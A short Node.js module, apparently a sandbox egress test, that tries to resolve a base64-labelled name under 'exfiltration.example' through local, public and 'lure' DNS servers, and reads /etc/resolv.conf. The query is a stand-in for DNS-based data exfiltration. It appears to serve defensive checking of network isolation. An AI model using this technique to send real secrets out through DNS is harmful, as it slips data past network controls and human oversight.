import dns, { lookup, Resolver } from 'node:dns/promises';
import { readFileSync } from 'node:fs';
import { attempt } from './attempt.mjs';

export async function execute({ inputData: { lures } }) {
  const name = 'c2VjcmV0.exfiltration.example';
  const servers = ['127.0.0.11', '127.0.0.53', '8.8.8.8', '[2001:4860:4860::8888]', ...lures.addresses];
  const resolvers = servers.map((server) => {
    const resolver = new Resolver({ timeout: 200, tries: 1 });
    resolver.setServers([server, ...lures.addresses.map((address) => `${address}:${lures.port}`)]);
    return resolver;
  });
  const answers = await Promise.all([
    attempt(() => lookup(name)),
    attempt(() => lookup(name, { family: 6 })),
    attempt(() => dns.resolve4(name)),
    ...resolvers.flatMap((resolver) => [
      attempt(() => resolver.resolve4(name)),
      attempt(() => resolver.resolveTxt(name)),
      attempt(() => resolver.reverse('8.8.8.8')),
    ]),
  ]);
  return {
    answers: [...new Set(answers)].sort().join(),
    configured: fileOr('/etc/resolv.conf').match(/nameserver .*/g) ?? [],
  };
}

function fileOr(path) {
  try {
    return readFileSync(path, 'utf8');
  } catch {
    return '';
  }
}
